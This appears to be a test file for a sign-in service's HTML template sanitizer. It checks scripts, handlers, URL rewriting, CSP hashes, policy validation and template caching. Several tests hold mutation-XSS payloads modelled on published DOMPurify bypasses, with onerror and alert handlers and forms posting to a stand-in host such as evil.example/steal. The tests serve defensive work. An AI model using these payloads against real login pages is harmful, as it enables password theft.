import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, serialize, type DefaultTreeAdapterMap } from 'parse5';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LAYOUT_SCRIPT_REFUSED, validatePolicyText } from '../../src/services/policies.js';
import { policySchema } from '../../src/model/policy.js';
import { html } from '../../src/ui/html.js';
import { PageLayouts } from '../../src/ui/layouts/page-layouts.js';
import { sanitizeTemplate, TemplateError, untilStable } from '../../src/ui/layouts/sanitize.js';
import type { ApiPage } from '../../src/ui/pages/api-page.js';
import { outboundClient } from '../helpers/outbound.js';
import { freePort } from '../helpers/ports.js';

const BASE = 'https://cdn.contoso.example/b2c/en/unified.html';

describe('sanitizing a template', () => {
  it('drops forms, frames, base, meta refresh, handlers, javascript: URLs and (without JavaScript) every script', () => {
    const t = sanitizeTemplate(
      `<!doctype html><html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><script src="https://cdn.contoso.example/a.js"></script></head>
<body onload="x()"><form action="https://evil.example"><input name="p"></form><iframe src="https://evil.example"></iframe><frameset></frameset><object data="x"></object><embed src="x"><fencedframe src="https://evil.example"></fencedframe><portal src="https://evil.example"></portal>
<a href="javascript:alert(1)">a</a><button form="localAccountForm" formaction="https://evil.example">b</button><div id="api"><p>placeholder</p></div><script>alert(1)</script></body></html>`,
      { baseUrl: BASE, javaScript: false },
    );
    const page = t.before + '<FORM-HERE>' + t.after;
    for (const gone of ['<form', '<iframe', '<object', '<embed', '<fencedframe', '<portal', '<base', 'http-equiv', '<script', 'onload', 'javascript:', 'formaction', 'form="', 'placeholder']) {
      expect(page, gone).not.toContain(gone);
    }
    expect(page).toContain('<div id="api"><FORM-HERE></div>');
    expect(t.scriptHashes).toEqual([]);
    expect(t.scriptOrigins).toEqual([]);
  });

  it('keeps head scripts only when JavaScript is enabled, hashing the inline ones, and drops body scripts anyway', () => {
    const t = sanitizeTemplate(
      `<!doctype html><html><head><script>window.a = 1;</script><script src="https://js.contoso.example/site.js"></script></head><body><div id="api"></div><script>window.b = 2;</script></body></html>`,
      { baseUrl: BASE, javaScript: true },
    );
    expect(t.before).toContain('<script>window.a = 1;</script>');
    expect(t.before + t.after).not.toContain('window.b');
    expect(t.scriptOrigins).toEqual(['https://js.contoso.example']);
    expect(t.scriptHashes).toEqual([`'sha256-${createHash('sha256').update('window.a = 1;').digest('base64')}'`]);
  });

  it("resolves relative asset URLs against the template's address and lists their origins for the CSP", () => {
    const t = sanitizeTemplate(
      `<!doctype html><html><head><link rel="stylesheet" href="../css/site.css"><style>.hero { background: url('img/hero.png'); }</style></head>
<body style="background-image: url(bg.png)"><img src="/logo.png" srcset="logo-2x.png 2x, https://img.contoso.example/logo-3x.png 3x"><a href="help.html">help</a><div id="api"></div></body></html>`,
      { baseUrl: BASE, javaScript: false },
    );
    expect(t.before).toContain('href="https://cdn.contoso.example/b2c/css/site.css"');
    expect(t.before).toContain("url('https://cdn.contoso.example/b2c/en/img/hero.png')");
    expect(t.before).toContain('url(https://cdn.contoso.example/b2c/en/bg.png)');
    expect(t.before).toContain('src="https://cdn.contoso.example/logo.png"');
    expect(t.before).toContain('srcset="https://cdn.contoso.example/b2c/en/logo-2x.png 2x, https://img.contoso.example/logo-3x.png 3x"');
    expect(t.before).toContain('href="https://cdn.contoso.example/b2c/en/help.html"');
    expect(t.assetOrigins.sort()).toEqual(['https://cdn.contoso.example', 'https://img.contoso.example']);
    expect(t.styleHashes).toHaveLength(2);
  });

  it('refuses a template without <div id="api">', () => {
    expect(() => sanitizeTemplate('<!doctype html><html><body><div id="main"></div></body></html>', { baseUrl: BASE, javaScript: false })).toThrow(TemplateError);
  });
});

type P5Node = DefaultTreeAdapterMap['node'];
type P5Element = DefaultTreeAdapterMap['element'];

/** Every element of a parsed page, template contents included. */
function elements(n: P5Node): P5Element[] {
  const out: P5Element[] = [];
  if ('tagName' in n) out.push(n);
  const kids: P5Node[] = 'childNodes' in n ? [...n.childNodes] : [];
  if ('tagName' in n && n.tagName === 'template') kids.push((n as DefaultTreeAdapterMap['template']).content);
  for (const c of kids) out.push(...elements(c));
  return out;
}

/** Latchkey's form as a journey page puts it in #api. */
const LATCHKEY_FORM = '<form id="localAccountForm" method="post" action="/demo/b2c_1_x/journey/j"><input id="password" name="password" type="password"><button type="submit" id="next">Sign in</button></form>';

/** The page a browser gets from a template, read back as a browser reads it (parse5 follows the standard). */
function served(template: string) {
  const t = sanitizeTemplate(template, { baseUrl: BASE, javaScript: false });
  const page = t.before.replace(t.langToken, 'en') + LATCHKEY_FORM + t.after;
  return { t, page, all: elements(parse(page)) };
}

/** What an attacker's template must not get into the page the browser builds. */
function expectOnlyLatchkeysForm(template: string, o: { readsBackAsWritten?: boolean } = {}) {
  const { page, all } = served(template);
  const forms = all.filter((e) => e.tagName === 'form');
  expect(forms.map((f) => f.attrs.find((a) => a.name === 'action')?.value), page).toEqual(['/demo/b2c_1_x/journey/j']);
  expect(all.filter((e) => e.attrs.some((a) => a.name === 'action' || a.name === 'formaction' || a.name === 'form')), page).toHaveLength(1);
  expect(all.filter((e) => e.attrs.some((a) => a.name.startsWith('on'))), page).toEqual([]);
  expect(all.filter((e) => e.namespaceURI !== 'http://www.w3.org/1999/xhtml'), page).toEqual([]);
  expect(page).not.toContain('evil.example');
  // Read and written once more, the page is the same text: what was checked is what is built.
  if (o.readsBackAsWritten !== false) expect(serialize(parse(page))).toBe(page);
  return page;
}

describe('mutation XSS: what the browser builds from the sanitized template', () => {
  it("the reported template: MathML's mglyph/style makes a form appear once the checked tree is written out", () => {
    const payload = '<math><mtext><table><mglyph><style><img><form action="https://evil.example/steal" method="post"></style></mglyph></table></mtext></math><div id="api">';
    // Without the fix this is what a browser built: the checked tree, written out, parsed into a real form.
    const once = serialize(parse(payload));
    expect(elements(parse(once)).some((e) => e.tagName === 'form')).toBe(true);
    const page = expectOnlyLatchkeysForm(payload);
    expect(page).not.toContain('<math');
    expect(served(payload).t.removed).toContain('math');
  });

  // Published sanitizer bypasses (DOMPurify's mXSS history), each with an evil form instead of an alert.
  const published: [string, string][] = [
    ['MathML form/mglyph (DOMPurify 2.0.17)', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)><form action="https://evil.example/a">'],
    ['MathML table/mglyph comment (DOMPurify 2.0.16)', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;form&Tab;action=https://evil.example/b&gt;"></table></mtext></math>'],
    ['SVG back to HTML (DOMPurify 2.2.2)', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src><form action=https://evil.example/c>">'],
    ['</p> in SVG (Chromium, DOMPurify 2.0.0)', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)><form action=https://evil.example/d>">'],
    ['annotation-xml/foreignobject (DOMPurify 3.0.8)', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><form action=https://evil.example/e>">'],
    ['noscript in SVG desc (DOMPurify 2.2.3)', '<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;p>&lt;/p>&lt;style>&lt;a title="&lt;/style>&lt;form action=https://evil.example/f>">'],
  ];
  for (const [name, payload] of published) {
    it(`drops foreign content: ${name}`, () => {
      expectOnlyLatchkeysForm(`<!doctype html><html><head><title>t</title></head><body><div id="api"></div>${payload}</body></html>`);
    });
  }

  it('drops <noscript>: its content is text to parse5 but a form to a browser with JavaScript off', () => {
    const template = '<!doctype html><html><head><noscript><link rel="stylesheet" href="nojs.css"></noscript></head><body><noscript><form action="https://evil.example/nojs" method="post"><input name="password"></form></noscript><div id="api"></div></body></html>';
    const page = expectOnlyLatchkeysForm(template);
    expect(page).not.toContain('noscript');
    expect(served(template).t.removed).toContain('noscript');
  });

  it('drops the obsolete raw-text elements (xmp, plaintext, noembed, noframes, listing)', () => {
    for (const tag of ['xmp', 'noembed', 'noframes', 'listing']) {
      const page = expectOnlyLatchkeysForm(`<!doctype html><body><${tag}><form action="https://evil.example/${tag}"></${tag}><div id="api"></div></body>`);
      expect(page, tag).not.toContain(`<${tag}`);
    }
    // <plaintext> swallows the rest of the page, Latchkey's form included; it goes.
    const page = expectOnlyLatchkeysForm('<!doctype html><body><div id="api"></div><plaintext><form action="https://evil.example/pt">');
    expect(page).not.toContain('plaintext');
  });

  it('sanitizes <template> contents and drops declarative shadow roots (parse5 does not build them, Chromium does)', () => {
    const template = '<!doctype html><body><template shadowrootmode="open"><slot></slot><form action="https://evil.example/shadow"><input name="password"></form></template><div id="api"></div></body>';
    const page = expectOnlyLatchkeysForm(template);
    expect(page).not.toContain('shadowrootmode');
    expect(page).toContain('<template><slot></slot></template>');
  });

  it('drops comments, bogus ones included', () => {
    const page = expectOnlyLatchkeysForm('<!doctype html><body><!--<form action="https://evil.example/c1">--><! <form action="https://evil.example/c2"> ><div id="api"></div><!--x--!><p>after</p></body>');
    expect(page).not.toContain('<!--');
    expect(page).toContain('<p>after</p>');
  });

  it('refuses nesting deeper than browsers build (Chromium flattens past 512, parse5 does not)', () => {
    const deep = `<!doctype html><body>${'<div>'.repeat(506)}<table><caption><svg><desc><table><caption></caption></table></desc><style><a title="</style><form action=https://evil.example/deep>"></a></style></svg></caption></table>${'</div>'.repeat(506)}<div id="api"></div></body>`;
    expect(() => sanitizeTemplate(deep, { baseUrl: BASE, javaScript: false })).toThrow(/nests elements more than 256 deep/);
    expect(() => sanitizeTemplate(`<body>${'<div>'.repeat(200)}<div id="api"></div></body>`, { baseUrl: BASE, javaScript: false })).not.toThrow();
  });

  it('writes a quirks-mode doctype as <!DOCTYPE html> and checks the tree the browser builds in standards mode', () => {
    // In quirks mode a <table> stays inside <p>; in standards mode it closes it. The rounds settle on the latter.
    const page = expectOnlyLatchkeysForm('<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><body><p>a<table><tr><td>b</td></tr></table><div id="api"></div></body>');
    expect(page.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(page).toContain('<p>a</p><table>');
  });

  it('keeps the leading newlines of <pre> and <textarea> (the parser eats one each time it reads them)', () => {
    const template = '<!doctype html><body><pre>\n\n\n\n\n\n\nx</pre><textarea>\n\ny</textarea><div id="api"></div></body>';
    const page = expectOnlyLatchkeysForm(template, { readsBackAsWritten: false });
    // The browser shows what the template's author wrote.
    const text = (doc: string, tag: string) => (elements(parse(doc)).find((e) => e.tagName === tag)!.childNodes[0] as DefaultTreeAdapterMap['textNode']).value;
    expect(text(page, 'pre')).toBe(text(template, 'pre'));
    expect(text(page, 'pre')).toBe('\n\n\n\n\n\nx');
    expect(text(page, 'textarea')).toBe('\ny');
  });

  it('refuses a #api that is removed with foreign content, or that sits in a link, button, label or summary', () => {
    const refusal = (t: string) => {
      try {
        sanitizeTemplate(t, { baseUrl: BASE, javaScript: false });
        return undefined;
      } catch (err) {
        expect(err).toBeInstanceOf(TemplateError);
        return (err as Error).message;
      }
    };
    expect(refusal('<body><svg><foreignObject><div id="api"></div></foreignObject></svg></body>')).toMatch(/inside content that is removed/);
    expect(refusal('<body><math><mtext><div id="api"></div></mtext></math></body>')).toMatch(/inside content that is removed/);
    for (const tag of ['a', 'button', 'label', 'summary']) {
      expect(refusal(`<body><${tag}><div id="api"></div></${tag}></body>`), tag).toMatch(new RegExp(`inside <${tag}>`));
    }
  });

  it('refuses markup that never stops changing when written out and read again', () => {
    // The rounds themselves: a step that changes the tree every time is refused, one that settles is not.
    let n = 0;
    expect(() =>
      untilStable('<p>x</p>', (doc) => {
        const body = elements(doc).find((e) => e.tagName === 'body')!;
        body.childNodes.push({ nodeName: '#text', value: String(n++), parentNode: body } as DefaultTreeAdapterMap['textNode']);
      }),
    ).toThrow(/still changing after 5 rounds/);
    expect(untilStable('<p>x', () => undefined).text).toBe('<html><head></head><body><p>x</p></body></html>');
  });
});

describe('page layouts in a policy', () => {
  const base = { id: 'B2C_1_x', kind: 'signUpOrSignIn' };
  it('takes an https URL, a file in the policy folder, or {template, javaScript}', () => {
    const r = policySchema.safeParse({ ...base, ui: { pageLayouts: { unifiedssp: 'https://cdn.contoso.example/{Culture:RFC5646}/unified.html', selfasserted: { template: 'layouts/sa.html', javaScript: true } } } });
    expect(r.success).toBe(true);
    expect(r.data?.ui.pageLayouts?.unifiedssp).toEqual({ template: 'https://cdn.contoso.example/{Culture:RFC5646}/unified.html', javaScript: false });
  });
  it('refuses javaScript for a tenant on the shared host, saying why at its JSON path; a tenant on its own host may have it', () => {
    const file = '/srv/policies/demo/B2C_1_js.json';
    const text = JSON.stringify({ id: 'B2C_1_js', kind: 'signIn', ui: { pageLayouts: { unifiedssp: { template: 'https://cdn.contoso.example/u.html', javaScript: true }, selfasserted: 'https://cdn.contoso.example/s.html' } } });
    expect(validatePolicyText(file, text, { providers: new Map() })).toEqual({ problems: [{ file, path: '$.ui.pageLayouts.unifiedssp.javaScript', message: LAYOUT_SCRIPT_REFUSED }] });
    expect(LAYOUT_SCRIPT_REFUSED).toMatch(/only for a tenant served on its own host .*share one origin/);
    const own = validatePolicyText(file, text, { providers: new Map(), hasOwnHost: true });
    expect('policy' in own && own.policy.ui.pageLayouts?.unifiedssp?.javaScript).toBe(true);
  });
  it('refuses http (but on loopback), a path leaving the folder and an unknown page type; takes a multifactor layout', () => {
    const message = (layouts: unknown) => policySchema.safeParse({ ...base, ui: { pageLayouts: layouts } }).error?.issues[0]?.message;
    expect(message({ unifiedssp: 'http://cdn.contoso.example/u.html' })).toMatch(/must be an https URL/);
    expect(policySchema.safeParse({ ...base, ui: { pageLayouts: { unifiedssp: 'http://127.0.0.1:8080/u.html' } } }).success).toBe(true);
    expect(message({ unifiedssp: '../other-tenant/u.html' })).toMatch(/inside the tenant's policy folder/);
    expect(message({ unifiedssp: 'layouts/u.txt' })).toMatch(/\.html file/);
    expect(message({ signin: 'layouts/u.html' })).toMatch(/unknown page type 'signin': use unifiedssp, selfasserted/);
    expect(message({ multifactor: 'layouts/u.html' })).toBeUndefined();
  });
});

describe('fetching and caching templates', () => {
  let server: Server;
  let url: string;
  const hits: string[] = [];
  let now = 1_000_000;
  let dir: string;
  const page: ApiPage = { pageType: 'unifiedssp', title: 'Sign in', content: html`<form id="localAccountForm"></form>` };
  const policyWith = (template: string) => policySchema.parse({ id: 'B2C_1_x', kind: 'signIn', ui: { pageLayouts: { unifiedssp: template } } });

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'latchkey-layouts-'));
    server = createServer((req, res) => {
      hits.push(req.url!);
      if (req.url === '/big.html') return res.writeHead(200, { 'content-type': 'text/html' }).end(`<html><body><div id="api"></div>${'x'.repeat(2_000_000)}</body></html>`);
      if (req.url === '/text.html') return res.writeHead(200, { 'content-type': 'text/plain' }).end('<div id="api"></div>');
      if (req.url === '/slow.html') return setTimeout(() => res.writeHead(200, { 'content-type': 'text/html' }).end('<div id="api"></div>'), 2000);
      if (req.url === '/gone.html') return res.writeHead(404).end();
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><html><head><title>T</title></head><body><div id="api"></div><!-- ${req.url} --></body></html>`);
    });
    const port = await freePort();
    await new Promise<void>((r) => server.listen(port, '127.0.0.1', () => r()));
    url = `http://127.0.0.1:${port}`;
  });
  afterAll(async () => {
    await new Promise((r) => server.close(r));
    rmSync(dir, { recursive: true, force: true });
  });

  const site = { baseUrl: 'https://login.contoso.example' };
  const layouts = (maxEntries = 2) => new PageLayouts({ policiesDir: dir, baseUrl: 'https://login.contoso.example', logger: pino({ level: 'silent' }), clock: { now: () => now }, outbound: outboundClient(), ttlMs: 60_000, failureTtlMs: 10_000, maxEntries, timeoutMs: 500 });

  it('fetches once per lifetime, then again; concurrent pages share one fetch', async () => {
    const l = layouts();
    const policy = policyWith(`${url}/{Culture:RFC5646}/cached.html`);
    hits.length = 0;
    const [a, b] = await Promise.all([l.render({ tenantSlug: 't', tenantId: 't-id', site, policy, page, locale: 'fr' }), l.render({ tenantSlug: 't', tenantId: 't-id', site, policy, page, locale: 'fr' })]);
    expect(a.html).toContain('<html lang="fr">');
    expect(a.html).toContain('<div id="api" data-name="Unified"><form id="localAccountForm"></form></div>');
    expect(b.html).toBe(a.html);
    expect(hits).toEqual(['/fr/cached.html']);
    now += 59_000;
    await l.render({ tenantSlug: 't', tenantId: 't-id', site, policy, page, locale: 'fr' });
    expect(hits).toHaveLength(1);
    now += 2_000;
    await l.render({ tenantSlug: 't', tenantId: 't-id', site, policy, page, locale: 'fr' });
    expect(hits).toEqual(['/fr/cached.html', '/fr/cached.html']);
  });

  it('keeps a bounded number of templates', async () => {
    const l = layouts();
    hits.length = 0;
    for (const name of ['a', 'b', 'c', 'a']) await l.render({ tenantSlug: 't', tenantId: 't-id', site, policy: policyWith(`${url}/${name}.html`), page, locale: 'en' });
    // Room for two: 'a' was pushed out by 'c' and fetched again.
    expect(hits).toEqual(['/a.html', '/b.html', '/c.html', '/a.html']);
  });

  it('uses the default layout for a template that is missing, too large, not HTML or too slow, and does not ask again at once', async () => {
    const l = layouts(10);
    for (const name of ['gone', 'big', 'text', 'slow']) {
      const r = await l.render({ tenantSlug: 't', tenantId: 't-id', site, policy: policyWith(`${url}/${name}.html`), page, locale: 'en' });
      expect(r.html, name).toContain('<link rel="stylesheet" href="/static/latchkey.css">');
      expect(r.csp, name).toBeUndefined();
    }
    hits.length = 0;
    await l.render({ tenantSlug: 't', tenantId: 't-id', site, policy: policyWith(`${url}/gone.html`), page, locale: 'en' });
    expect(hits).toEqual([]);
    expect(await l.check('t', `${url}/gone.html`, false, 'en')).toMatch(/answered 404/);
    expect(await l.check('t', `${url}/text.html`, false, 'en')).toMatch(/not HTML/);
    expect(await l.check('t', `${url}/big.html`, false, 'en')).toMatch(/larger than/);
  });
});
